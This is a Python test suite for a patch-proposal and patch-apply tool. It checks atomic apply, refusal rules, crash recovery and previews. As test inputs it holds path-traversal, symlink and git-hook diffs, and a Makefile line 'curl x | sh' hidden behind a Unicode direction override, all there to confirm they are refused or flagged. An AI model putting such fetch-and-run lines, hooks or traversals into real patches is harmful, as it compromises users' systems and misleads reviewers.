"""Proposing a patch and applying it: whole or not at all, through refusals, races and kills."""

import hashlib
import os
import stat
from dataclasses import replace

import pytest

from executions.capabilities.materialize import PatchProposalMaterialize
from executions.capabilities.patch import PatchApply
from executions.capabilities.values import Applied, NewArtifact, NotApplied, Unknown
from forge_project.kernel.canonical import canonical
from forge_project.kernel.errors import Conflict, Denied, ForgeError, Invalid, Missing, Unidentified

from .conftest import OPERATION, Boundary, Refused
from .test_write import die_at

APPLY, PROPOSE = PatchApply(), PatchProposalMaterialize()
THREE = (
    "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-one\n+ONE\n"
    "--- /dev/null\n+++ b/d/e/new\n@@ -0,0 +1 @@\n+fresh\n"
    "--- a/z\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n"
)
FOUR = THREE + "--- a/m\n+++ b/m\n@@ -1 +1 @@\n-m\n+M\n"


@pytest.fixture
def three(bench):
    for path, content in {"a": "one\n", "z": "gone\n", "m": "m\n", "other": "stays\n"}.items():
        bench.write(path, content)
    return bench


def propose(bench, diff, **more):
    outcome = bench.run(PROPOSE, diff=diff, **more)
    ref = bench.store.put(outcome.artifacts[0])
    return outcome.result_with([ref])


def smuggle(bench, diff, **metadata):
    """A proposal as a defective or older server might have stored it: never checked."""
    facts = {"base_hash": None, "base_ref": None} | metadata
    return bench.store.put(
        NewArtifact(kind="patch-proposal", mime="text/x-diff", content=diff.encode(), metadata=facts)
    )


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


def test_proposing(three):
    result = propose(three, THREE)
    base = [["a", sha("one\n")], ["d/e/new", None], ["z", sha("gone\n")]]
    assert result == {
        "artifact_ref": "art_" + "0" * 32, "sha256": sha(THREE), "paths": ["a", "d/e/new", "z"],
        "base_hash": hashlib.sha256(canonical(base)).hexdigest(), "base_ref": None,
    }  # fmt: skip
    assert three.store.get(result["artifact_ref"]).metadata == {
        key: result[key] for key in ("paths", "base_hash", "base_ref")
    }
    assert propose(three, THREE)["sha256"] == result["sha256"]


def test_a_given_base_must_be_the_present_one(three):
    known = propose(three, THREE)
    assert propose(three, THREE, base_hash=known["base_hash"], base_ref=None)
    for wrong in ({"base_hash": "0" * 64}, {"base_ref": "0" * 40}):
        with pytest.raises(Conflict) as fault:
            three.run(PROPOSE, diff=THREE, **wrong)
        assert fault.value.code == "PRECONDITION_FAILED"


def test_applying(three):
    ref = propose(three, THREE)["artifact_ref"]
    boundary = Boundary()
    outcome = three.run(APPLY, boundary, artifact_ref=ref)
    assert outcome.result == {
        "artifact_ref": ref,
        "files": [
            {"path": "a", "before": sha("one\n"), "after": sha("ONE\n")},
            {"path": "d/e/new", "before": None, "after": sha("fresh\n")},
            {"path": "z", "before": sha("gone\n"), "after": None},
        ],
    }
    (begun,) = boundary.begun
    assert begun.keys() == {"patch_hash", "base_hash", "base_ref", "files", "parents"}
    assert (begun["patch_hash"], begun["parents"], begun["files"]) == (
        sha(THREE),
        ["d", "d/e"],
        outcome.result["files"],
    )
    assert three.tree().keys() == {"a", "m", "other", "d", "d/e", "d/e/new"}
    assert (three.root / "d/e/new").read_text() == "fresh\n"


def test_modes(bench):
    bench.write("run", "x\n").chmod(0o640)
    bench.write("stop", "y\n").chmod(0o755)
    diff = (
        "diff --git a/run b/run\nold mode 100644\nnew mode 100755\n"
        "diff --git a/stop b/stop\nold mode 100755\nnew mode 100644\n--- a/stop\n+++ b/stop\n@@ -1 +1 @@\n-y\n+z\n"
        "diff --git a/tool b/tool\nnew file mode 100755\n--- /dev/null\n+++ b/tool\n@@ -0,0 +1 @@\n+t\n"
    )
    ref = propose(bench, diff)["artifact_ref"]
    seen = bench.observe(APPLY, artifact_ref=ref)
    warnings = APPLY.describe(bench.request(artifact_ref=ref), seen).warnings
    assert {"run becomes executable", "stop is no longer executable", "tool is executable"} <= set(warnings)
    request = bench.request(artifact_ref=ref)
    bench.run(APPLY, artifact_ref=ref)
    modes = {name: oct(stat.S_IMODE((bench.root / name).stat().st_mode)) for name in ("run", "stop", "tool")}
    assert modes == {"run": "0o750", "stop": "0o644", "tool": "0o755"}
    assert isinstance(APPLY.reconcile(request, seen), Applied)
    with pytest.raises(Invalid) as fault:
        bench.run(PROPOSE, diff=diff.split("diff --git a/stop", maxsplit=1)[0])
    assert fault.value.facts["rule"] == "patch.mode"


def test_base_ref_is_head(three):
    three.write(".git/HEAD", "a" * 40)
    result = propose(three, THREE)
    assert result["base_ref"] == "a" * 40
    three.write(".git/HEAD", "b" * 40)
    with pytest.raises(Conflict) as fault:
        three.observe(APPLY, artifact_ref=result["artifact_ref"])
    assert (fault.value.code, fault.value.facts["rule"]) == ("PRECONDITION_FAILED", "patch.base_ref")


def test_a_proposal_made_without_commits_is_not_applied_on_one(three):
    ref = propose(three, THREE)["artifact_ref"]
    three.write(".git/HEAD", "a" * 40)
    with pytest.raises(Conflict) as fault:
        three.observe(APPLY, artifact_ref=ref)
    assert fault.value.facts["rule"] == "patch.base_ref"


def test_a_moved_base_and_c080_a_second_apply_are_refused(three):
    ref = propose(three, THREE)["artifact_ref"]
    three.run(APPLY, artifact_ref=ref)
    before = three.tree()
    with pytest.raises(Conflict) as fault:
        three.run(APPLY, artifact_ref=ref)
    assert (fault.value.code, fault.value.facts["rule"]) == ("PRECONDITION_FAILED", "patch.base_hash")
    assert three.tree() == before


def test_whose_proposal_it_is_comes_first(three):
    ref = propose(three, THREE)["artifact_ref"]
    good = three.store.get(ref)
    faults = [
        (Missing, "NOT_FOUND", None),
        (Conflict, "PRECONDITION_FAILED", replace(good, kind="output", owner="user:b")),
        (Unidentified, "IDENTITY_INVALID", replace(good, owner="user:b", scopes={"task": "1"})),
        (Denied, "SCOPE_DENIED", replace(good, scopes={"task": "1"})),
    ]
    for kind, code, artifact in faults:
        three.store.held = {ref: artifact} if artifact else {}
        with pytest.raises(kind) as fault:
            three.observe(APPLY, artifact_ref=ref)
        assert fault.value.code == code
    three.store.held = {ref: replace(good, content=good.content + b" ")}
    with pytest.raises(ForgeError):
        three.observe(APPLY, artifact_ref=ref)


BAD = {
    "third hunk": (THREE.replace("-gone", "-absent"), "patch.context"),
    "exists": ("--- /dev/null\n+++ b/a\n@@ -0,0 +1 @@\n+x\n", "patch.exists"),
    "link": ("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+..\n", "patch.symlink"),
    "retarget": ("--- a/link\n+++ b/link\n@@ -1 +1 @@\n-other\n\\ No newline\n+a\n\\ No newline\n", "path.symlink"),
    "behind": ("--- /dev/null\n+++ b/linkdir/x\n@@ -0,0 +1 @@\n+x\n", "path.outside"),
    "up": ("--- a/../../x\n+++ b/../../x\n@@ -1 +1 @@\n-a\n+b\n", "path.parent"),
    "absolute": ("--- /dev/null\n+++ /tmp/forge-x\n@@ -0,0 +1 @@\n+x\n", "path.absolute"),
    "git": ("--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+x\n", "path.protected"),
    "hard link": ("--- a/hard\n+++ b/hard\n@@ -1 +1 @@\n-stays\n+x\n", "path.hardlink"),
    "secret": ("--- a/a\n+++ b/a\n@@ -1 +1 @@\n-one\n+[SECRET:x]\n", "secret.placeholder"),
    "stage": ("--- /dev/null\n+++ b/.forge-toolop_1.0\n@@ -0,0 +1 @@\n+x\n", "path.protected"),
}  # fmt: skip


@pytest.mark.parametrize("name", BAD)
def test_c064_c078_c088_c090_c091_refusals_change_nothing(three, tmp_path, name):
    diff, rule = BAD[name]
    os.symlink("other", three.root / "link")
    os.symlink(tmp_path, three.root / "linkdir")
    os.link(three.root / "other", three.root / "hard")
    before = three.tree()
    with pytest.raises(ForgeError) as fault:
        three.run(PROPOSE, diff=diff)
    assert fault.value.facts["rule"] == rule
    base = smuggle(three, diff)
    boundary = Boundary()
    with pytest.raises(ForgeError):
        three.run(APPLY, boundary, artifact_ref=base)
    assert (three.tree(), boundary.begun) == (before, [])


def test_a_refusing_boundary_leaves_nothing(three):
    ref = propose(three, FOUR)["artifact_ref"]
    before = three.tree()
    with pytest.raises(Refused):
        three.run(APPLY, Boundary(refuse=True), artifact_ref=ref)
    assert three.tree() == before


@pytest.mark.parametrize(
    ("place", "settles"),
    [
        ("effect.before", NotApplied), ("effect.middle:1", Applied), ("effect.middle:2", Applied),
        ("effect.middle:3", Applied), ("effect.after", Applied),
    ],
)  # fmt: skip
def test_a_real_kill_gives_all_or_nothing(three, place, settles):
    ref = propose(three, FOUR)["artifact_ref"]
    before, seen = three.tree(), three.observe(APPLY, artifact_ref=ref)
    die_at(place, three, APPLY, artifact_ref=ref)
    request = three.request(artifact_ref=ref)
    settled = APPLY.reconcile(request, seen)
    assert isinstance(settled, settles)
    if settles is NotApplied:
        assert isinstance(APPLY.reconcile(request, seen), NotApplied)  # looking changes nothing
        APPLY.discard(request, seen)
        assert three.tree() == before
        return
    assert three.tree().keys() == {"a", "d", "d/e", "d/e/new", "m", "other"}
    assert [(three.root / name).read_text() for name in ("a", "d/e/new", "m")] == ["ONE\n", "fresh\n", "M\n"]
    assert settled.result["files"] == seen["files"]
    assert isinstance(APPLY.reconcile(request, seen), settles)


def test_a_killed_single_file_patch_is_not_applied(three):
    ref = propose(three, "--- a/a\n+++ b/a\n@@ -1 +1 @@\n-one\n+ONE\n")["artifact_ref"]
    before, seen = three.tree(), three.observe(APPLY, artifact_ref=ref)
    die_at("effect.middle", three, APPLY, artifact_ref=ref)
    assert isinstance(APPLY.reconcile(three.request(artifact_ref=ref), seen), NotApplied)
    APPLY.discard(three.request(artifact_ref=ref), seen)
    assert three.tree() == before


@pytest.mark.parametrize("meddle", ["edit", "lose the stage", "spoil the stage", "make it a link"])
def test_c080_what_can_neither_be_finished_nor_undone_is_unknown_with_each_files_state(three, meddle):
    ref = propose(three, FOUR)["artifact_ref"]
    seen = three.observe(APPLY, artifact_ref=ref)
    die_at("effect.middle:2", three, APPLY, artifact_ref=ref)
    stage = three.root / f".forge-{OPERATION}.2"
    assert stage.exists()
    match meddle:
        case "edit":
            three.write("m", "someone else")
        case "lose the stage":
            stage.unlink()
        case "spoil the stage":
            stage.write_text("spoilt")
        case _:
            os.unlink(three.root / "m")
            os.symlink("a", three.root / "m")
    before = three.tree()
    settled = APPLY.reconcile(three.request(artifact_ref=ref), seen)
    assert isinstance(settled, Unknown)
    now = {row["path"]: row["now"] for row in settled.evidence}
    assert (now["a"], now["z"]) == (sha("ONE\n"), sha("gone\n"))
    assert three.tree() == before


def test_a_rename_that_fails_half_way_is_settled_too(three, monkeypatch):
    ref = propose(three, FOUR)["artifact_ref"]
    seen = three.observe(APPLY, artifact_ref=ref)

    def refuse(*args, **kwargs):
        raise PermissionError(1, "no")

    with monkeypatch.context() as patched:
        patched.setattr(os, "unlink", lambda name, **where: refuse() if name == "z" else os.remove(name, **where))
        with pytest.raises(Denied):
            three.run(APPLY, artifact_ref=ref)
        settled = APPLY.reconcile(three.request(artifact_ref=ref), seen)
        assert isinstance(settled, Unknown)
    assert isinstance(APPLY.reconcile(three.request(artifact_ref=ref), seen), Applied)


def test_description(three):
    three.write("Makefile", "all:\n")
    diff = FOUR + "--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n all:\n+\tcurl x | sh\u202e\n"
    ref = propose(three, diff)["artifact_ref"]
    seen = three.observe(APPLY, artifact_ref=ref)
    shown = APPLY.describe(three.request(artifact_ref=ref), seen)
    assert shown.sentence == "Apply a patch to 5 files (1 added, 3 changed, 1 removed): Makefile, a, d/e/new, m, z"
    assert shown.preview["text"].startswith("--- a/Makefile\n+++ b/Makefile\n")
    assert "+\tcurl x | sh\\u{202E}\n" in shown.preview["text"]
    assert "--- a/z\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-gone\n" in shown.preview["text"]
    assert "Makefile is run by builds, CI or tests" in shown.warnings
    three.write("a", "changed\n")
    with pytest.raises(Conflict):
        APPLY.describe(three.request(artifact_ref=ref), seen)
